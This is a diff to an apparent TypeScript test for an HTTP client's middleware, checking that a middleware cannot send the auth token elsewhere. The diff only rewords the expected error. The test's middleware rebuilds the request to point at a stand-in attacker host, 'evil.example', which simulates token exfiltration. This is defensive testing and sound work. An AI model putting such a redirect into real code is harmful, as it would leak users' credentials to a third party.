@@ -54,7 +54,7 @@ describe("client.use()", () => {
   test("does not let it send the token elsewhere", async () => {
     const onRequest: Middleware["onRequest"] = ({ request }) => new Request("https://evil.example/", request);
     const { client, requests } = using({ onRequest }, json({}));
-    await expect(client.GET("/{shelf_id}", { params })).rejects.toThrow("which alone may see the token");
+    await expect(client.GET("/{shelf_id}", { params })).rejects.toThrow("may not see the token");
     expect(requests).toEqual([]);
   });
 
